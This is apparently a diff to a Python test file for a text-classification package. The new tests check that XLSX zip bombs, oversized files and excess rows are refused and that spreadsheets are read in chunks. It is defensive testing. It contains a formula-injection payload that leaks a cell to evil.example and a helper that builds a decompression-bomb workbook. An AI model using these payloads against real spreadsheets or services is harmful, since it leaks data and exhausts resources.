@@ -3,12 +3,16 @@ zip bombs refused before parsing, rows bounded, workbooks streamed."""
 
 from __future__ import annotations
 
+import json
+import zipfile
+from pathlib import Path
+
 import openpyxl
 import pandas as pd
 import pytest
 
 from cxnlp.batch import classify_file
-from cxnlp.io import escape_formula, read_table, write_table
+from cxnlp.io import SpreadsheetTooLarge, escape_formula, iter_table, read_table, write_table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -60,3 +64,63 @@ def test_write_table_escapes_csv(tmp_path):
     write_table(pd.DataFrame({"text": ["=1+1", "ok"], "n": [1, -2]}), tmp_path / "o.csv")
     back = pd.read_csv(tmp_path / "o.csv")
     assert back["text"].tolist() == ["'=1+1", "ok"] and back["n"].tolist() == [1, -2]
+
+
+def _bomb(path: Path, inflated_mb: int = 40) -> None:
+    row = '<row><c t="inlineStr"><is><t>aaaaaaaaaa</t></is></c></row>'
+    body = row * (inflated_mb * 2**20 // len(row))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr(
+            "xl/worksheets/sheet1.xml", f"<worksheet><sheetData>{body}</sheetData></worksheet>"
+        )
+
+
+def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
+    path = tmp_path / "bomb.xlsx"
+    _bomb(path)
+    assert path.stat().st_size < 1_000_000
+    with pytest.raises(SpreadsheetTooLarge, match="zip bomb"):
+        next(iter_table(path))
+
+
+def test_xlsx_over_the_byte_limit_is_refused(tmp_path, monkeypatch):
+    path = tmp_path / "big.xlsx"
+    pd.DataFrame({"text": [f"review {i}" for i in range(2000)]}).to_excel(path, index=False)
+    monkeypatch.setenv("CXNLP_XLSX_MAX_BYTES", "10000")
+    with pytest.raises(SpreadsheetTooLarge, match="CXNLP_XLSX_MAX_BYTES"):
+        next(iter_table(path))
+
+
+def test_xlsx_rows_are_bounded_and_streamed(tmp_path, monkeypatch):
+    path = tmp_path / "rows.xlsx"
+    frame = pd.DataFrame({"id": range(10), "text": [f"review {i}" for i in range(10)]})
+    frame.to_excel(path, index=False)
+    chunks = list(iter_table(path, chunk_rows=4))
+    assert [len(c) for c in chunks] == [4, 4, 2]
+    assert pd.concat(chunks)["text"].tolist() == frame["text"].tolist()
+    monkeypatch.setenv("CXNLP_XLSX_MAX_ROWS", "5")
+    with pytest.raises(SpreadsheetTooLarge, match="more than 5 rows"):
+        list(iter_table(path, chunk_rows=4))
+
+
+def test_job_with_a_zip_bomb_fails_with_the_reason(tiny_model_dir, tmp_path):
+    from fastapi.testclient import TestClient
+
+    from service import Settings, create_app
+
+    bomb = tmp_path / "bomb.xlsx"
+    _bomb(bomb)
+    settings = Settings(model=str(tiny_model_dir), auth=False, jobs_dir=tmp_path / "jobs")
+    with TestClient(create_app(settings)) as c:
+        with open(bomb, "rb") as f:
+            job = c.post("/v1/jobs", files={"file": ("bomb.xlsx", f)}).json()
+        import time
+
+        for _ in range(500):
+            info = c.get(f"/v1/jobs/{job['id']}").json()
+            if info["status"] in ("failed", "succeeded"):
+                break
+            time.sleep(0.02)
+    assert info["status"] == "failed" and "zip bomb" in info["error"]
+    assert str(tmp_path) not in json.dumps(info)
